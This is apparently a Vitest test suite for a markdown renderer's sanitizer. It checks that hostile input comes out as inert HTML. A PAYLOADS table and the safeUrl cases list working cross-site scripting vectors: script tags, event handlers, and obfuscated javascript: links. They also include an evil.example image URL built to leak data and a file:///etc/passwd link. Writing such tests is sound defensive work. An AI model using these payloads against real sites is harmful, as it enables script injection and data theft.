// Hostile text in, inert HTML out: through the renderer alone and through the mounted component.
import { afterEach, describe, expect, it } from "vitest";
import { renderToHtml } from "./render";
import { safeUrl, sanitizeHtml } from "./sanitize";
import { mountMarkdown, type Mounted } from "./testing";

const PAYLOADS: Record<string, string> = {
  script: "<script>window.__pwned = 1</script>",
  scriptInline: "hello <script>window.__pwned = 1</script> world",
  imgOnerror: '<img src=x onerror="window.__pwned = 1">',
  svgOnload: '<svg onload="window.__pwned = 1"><circle r="5"/></svg>',
  iframe: '<iframe src="javascript:window.__pwned = 1"></iframe>',
  iframeSrcdoc: '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>',
  mdJavascript: "[click](javascript:window.__pwned=1)",
  mdMixedCase: "[click](JaVaScRiPt:window.__pwned=1)",
  mdEntity: "[click](javascript&#58;window.__pwned=1)",
  mdEntityHex: "[click](&#x6A;avascript:window.__pwned=1)",
  mdNamedEntity: "[click](javascript&colon;window.__pwned=1)",
  mdTab: "[click](java&#9;script:window.__pwned=1)",
  mdAngle: "[click](<javascript:window.__pwned=1>)",
  mdAutolink: "<javascript:window.__pwned=1>",
  mdVbscript: "[click](vbscript:msgbox(1))",
  mdData: "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  mdReference: "[click][evil]\n\n[evil]: javascript:window.__pwned=1",
  mdImageJs: "![pic](javascript:window.__pwned=1)",
  rawLink: '<a href="javascript:window.__pwned=1">click</a>',
  rawLinkEntity: '<a href="javascript&#58;window.__pwned=1">click</a>',
  rawLinkMixed: '<a href="JaVaScRiPt:window.__pwned=1">click</a>',
  rawData: '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  style: '<p style="position:fixed;inset:0;background:red">cover</p>',
  styleTag: "<style>body { display: none }</style>",
  form: '<form action="https://evil.example/"><input name="q"><button>Go</button></form>',
  object: '<object data="javascript:window.__pwned=1"></object><embed src="x.swf">',
  meta: '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
  base: '<base href="https://evil.example/">',
  mathml: "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
  details: '<details open ontoggle="window.__pwned=1">x</details>',
  blockHtml: '<div onclick="window.__pwned=1">\n\n**bold**\n\n</div>',
  markdownInTitle: '[a](https://example.com "x\\" onmouseover=\\"window.__pwned=1")',
};

const DANGEROUS_SCHEME = /^\s*(javascript|vbscript|data|file):/i;

function assertInert(root: ParentNode): void {
  for (const tag of ["script", "iframe", "object", "embed", "style", "img", "svg", "math", "form", "meta", "base", "link"]) {
    expect(root.querySelector(tag), `<${tag}> in output`).toBeNull();
  }
  for (const element of Array.from(root.querySelectorAll("*"))) {
    for (const attribute of Array.from(element.attributes)) {
      expect(attribute.name.startsWith("on"), `${attribute.name} on <${element.localName}>`).toBe(false);
      expect(attribute.name, `style on <${element.localName}>`).not.toBe("style");
      if (["href", "src", "action", "formaction", "xlink:href", "srcdoc"].includes(attribute.name)) {
        expect(attribute.value, `${attribute.name}=${attribute.value}`).not.toMatch(DANGEROUS_SCHEME);
      }
    }
  }
  for (const link of Array.from(root.querySelectorAll("a[href]"))) {
    expect(link.getAttribute("target")).toBe("_blank");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
  }
}

function parse(html: string): HTMLElement {
  const host = document.createElement("div");
  host.innerHTML = html;
  return host;
}

describe("safeUrl", () => {
  it.each([
    ["https://example.com/a?b=1&c=2", "https://example.com/a?b=1&c=2"],
    ["http://example.com", "http://example.com"],
    ["mailto:someone@example.com", "mailto:someone@example.com"],
    ["/relative/path", "/relative/path"],
    ["#fragment", "#fragment"],
    ["docs/readme.md", "docs/readme.md"],
    ["https://example.com/?q=a&amp;b", "https://example.com/?q=a&b"],
  ])("keeps %s", (url, expected) => {
    expect(safeUrl(url)).toBe(expected);
  });

  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\u0001javascript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "ftp://example.com",
    "ht\ttps://example.com",
  ])("refuses %j", (url) => {
    expect(safeUrl(url)).toBeNull();
  });
});

describe("rendered HTML", () => {
  it.each(Object.entries(PAYLOADS))("%s is inert", (_name, payload) => {
    const root = parse(renderToHtml(payload));
    assertInert(root);
  });

  it("shows raw HTML as the text it is", () => {
    const root = parse(renderToHtml("Try <b>bold</b> and <script>window.__pwned = 1</script>"));
    expect(root.querySelector("b")).toBeNull();
    expect(root.textContent).toContain("<b>bold</b>");
    expect(root.textContent).toContain("<script>window.__pwned = 1</script>");
  });

  it("neutralises dangerous links to plain text", () => {
    const root = parse(renderToHtml(PAYLOADS.mdEntity!));
    expect(root.querySelector("a[href]")).toBeNull();
    expect(root.textContent).toContain("click");
  });

  it("keeps safe links and opens them in a new tab without an opener", () => {
    const root = parse(renderToHtml("[docs](https://example.com/docs) and www.example.org and <mailto:a@example.com>"));
    const links = Array.from(root.querySelectorAll("a"));
    expect(links.map((link) => link.getAttribute("href"))).toEqual([
      "https://example.com/docs",
      "http://www.example.org",
      "mailto:a@example.com",
    ]);
    assertInert(root);
  });

  it("turns remote images into links and never loads them", () => {
    const root = parse(renderToHtml('![a chart](https://evil.example/leak?data=secret "Chart")'));
    expect(root.querySelector("img")).toBeNull();
    const link = root.querySelector("a.md-image")!;
    expect(link.getAttribute("href")).toBe("https://evil.example/leak?data=secret");
    expect(link.textContent).toBe("a chart");
  });

  it("sanitises HTML it is handed directly, whatever the renderer did", () => {
    const root = parse(
      sanitizeHtml(
        '<a href="javascript&#58;x">a</a><a href="https://ok.example">b</a><img src=x onerror=alert(1)><p style="color:red" onclick="x">c</p><input type="text" value="x">',
      ),
    );
    assertInert(root);
    expect(root.querySelectorAll("a[href]")).toHaveLength(1);
    expect(root.querySelector("input")?.getAttribute("type")).toBe("checkbox");
  });
});

describe("<Markdown> with hostile text", () => {
  let mounted: Mounted | null = null;
  afterEach(() => {
    mounted?.unmount();
    mounted = null;
    delete (window as { __pwned?: unknown }).__pwned;
  });

  it("renders every payload inert and runs nothing", async () => {
    const text = Object.values(PAYLOADS).join("\n\n");
    mounted = mountMarkdown(text);
    await new Promise((resolve) => setTimeout(resolve, 20));
    assertInert(mounted.container);
    expect((window as { __pwned?: unknown }).__pwned).toBeUndefined();
    expect(mounted.container.textContent).toContain("<script>window.__pwned = 1</script>");
  });

  it("stays inert while the payloads stream in", () => {
    const text = Object.values(PAYLOADS).join("\n\n");
    mounted = mountMarkdown("", true);
    for (let end = 1; end <= text.length; end += 7) {
      mounted.update(text.slice(0, end), true);
      assertInert(mounted.container);
    }
    mounted.update(text, false);
    assertInert(mounted.container);
  });
});
